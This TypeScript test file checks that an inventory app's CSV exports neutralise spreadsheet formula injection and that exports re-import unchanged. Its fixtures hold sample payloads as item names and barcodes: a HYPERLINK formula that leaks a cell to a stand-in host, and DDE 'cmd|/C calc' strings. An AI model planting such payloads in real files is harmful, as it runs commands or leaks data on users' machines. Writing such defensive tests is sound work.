// Exported CSV cells that a spreadsheet would run as a formula (text beginning with = + - @, a tab or
// a carriage return) get a leading `'`; numbers stay numbers; `csv import` reads every such text back
// unchanged, so an export can still be edited and imported (docs/SECURITY.md).
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fromSpreadsheetText, spreadsheetText } from '../../server/csv/spreadsheet-cells.ts';
import { STOCKTAKES_PATH, STOCK_EXPORT_PATH, stocktakePath } from '../../shared/index.ts';
import { runCli } from '../support/cli.ts';
import { type TestServer, startTestServer, tempDir } from '../support/test-server.ts';

const NAMES = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  plus: "+1+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  quoted: "'=already quoted",
  apostrophe: "'plain",
};

const catalogue = {
  accounts: [
    {
      name: 'shop',
      warehouses_enabled: true,
      warehouses: [{ id: 1, name: '=Main' }],
      items: [
        { id: 10, name: NAMES.hyperlink, barcode: '-2+3', stock: [{ warehouse: '=Main', quantity: -5 }] },
        { id: 11, name: NAMES.plus, variants: [{ id: 110, name: NAMES.at, barcode: '@B1', stock: [{ warehouse: '=Main', quantity: 2 }] }] },
        { id: 14, name: NAMES.quoted, barcode: "'Q1", stock: [{ warehouse: '=Main', quantity: 1 }] },
        { id: 15, name: NAMES.apostrophe, barcode: 'Q2', stock: [{ warehouse: '=Main', quantity: 1 }] },
        { id: 16, name: 'Harmless', barcode: 'H1', stock: [{ warehouse: '=Main', quantity: 1 }] },
      ],
    },
  ],
};

type Row = Record<string, string>;
const rowsOf = (text: string): Row[] => parse(text, { columns: true, bom: true, relax_quotes: true });

describe('CSV formula injection', () => {
  let server: TestServer;
  const temp = tempDir('bi-csv-formula-');
  beforeAll(async () => {
    server = await startTestServer(catalogue);
  });
  afterAll(async () => {
    await server.stop();
    temp.remove();
  });

  it('neutralises every text cell a spreadsheet would run, and leaves numbers and plain text alone', async () => {
    const response = await server.request('GET', STOCK_EXPORT_PATH, { token: server.tokens.shop });
    expect(response.status).toBe(200);
    const rows = rowsOf(await response.text());
    const byId = Object.fromEntries(rows.map((r) => [r.item_id, r]));
    expect(byId['10']).toMatchObject({ item_name: `'${NAMES.hyperlink}`, barcode: "'-2+3", warehouse: "'=Main", quantity: '-5' });
    expect(byId['11']).toMatchObject({ item_name: `'${NAMES.plus}`, variant_name: `'${NAMES.at}`, barcode: "'@B1", variant_id: '110' });
    expect(byId['14']).toMatchObject({ item_name: `'${NAMES.quoted}`, barcode: "''Q1" });
    expect(byId['15']!.item_name).toBe(`'${NAMES.apostrophe}`);
    expect(byId['16']).toMatchObject({ item_name: 'Harmless', barcode: 'H1' });
    for (const row of rows) for (const cell of Object.values(row)) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+@\t\r]/);
  });

  it('reads an exported file back unchanged: the import changes nothing', async () => {
    const file = path.join(temp.dir, 'export.csv');
    const exported = await runCli(['csv', 'export', '--account', 'shop', '--db', server.dbFile]);
    expect(exported.code, exported.stderr).toBe(0);
    expect(exported.stdout).toBe(await (await server.request('GET', STOCK_EXPORT_PATH, { token: server.tokens.shop })).text());
    writeFileSync(file, exported.stdout);
    const dry = await runCli(['csv', 'import', file, '--account', 'shop', '--dry-run', '--db', server.dbFile]);
    expect(dry.code, dry.stdout + dry.stderr).toBe(0);
    expect(dry.stdout).not.toContain('rename');
    expect(dry.stdout).toContain('0 quantities would change; 0 new item(s), 0 new variant(s); 0 problem(s).');
    const real = await runCli(['csv', 'import', file, '--account', 'shop', '--db', server.dbFile]);
    expect(real.code, real.stderr).toBe(0);
    expect((await runCli(['csv', 'export', '--account', 'shop', '--db', server.dbFile])).stdout).toBe(exported.stdout);
    const names = await server.probe.all<{ id: number; name: string }>('SELECT id, name FROM items ORDER BY id');
    expect(names.map((n) => n.name)).toEqual([NAMES.hyperlink, NAMES.plus, NAMES.quoted, NAMES.apostrophe, 'Harmless']);
  });

  it("neutralises unknown scanned barcodes and names in a session's counts.csv", async () => {
    const created = await server.request('POST', STOCKTAKES_PATH, { token: server.tokens.shop, body: { warehouse_name: '=Main' } });
    const { id } = (await created.json()) as { id: number };
    for (const barcode of ["=cmd|'/C calc'!A0", '-2+3', 'H1']) {
      expect((await server.request('POST', stocktakePath(id, 'scans'), { token: server.tokens.shop, body: { barcode } })).status).toBe(201);
    }
    const counts = rowsOf(await (await server.request('GET', `${STOCKTAKES_PATH}${id}/counts.csv`, { token: server.tokens.shop })).text());
    expect(counts.map((r) => [r.barcode, r.name])).toEqual([
      ["'-2+3", `'${NAMES.hyperlink}`],
      ['H1', 'Harmless'],
      ["'=cmd|'/C calc'!A0", ''],
    ]);
  });

  it('round-trips any text through the cell rules; a leading tab or carriage return is neutralised too', () => {
    // Names are trimmed on import, so these reach a cell only through other fields or other files.
    expect(spreadsheetText('\t=1+1')).toBe("'\t=1+1");
    expect(spreadsheetText('\r=1+1')).toBe("'\r=1+1");
    for (const text of ['', "'", "''", '=', "'=", 'a', "a'", '-1', '+', '@', '\t', '\r', "'\t", 'x=1']) {
      expect(fromSpreadsheetText(spreadsheetText(text)), JSON.stringify(text)).toBe(text);
    }
  });
});
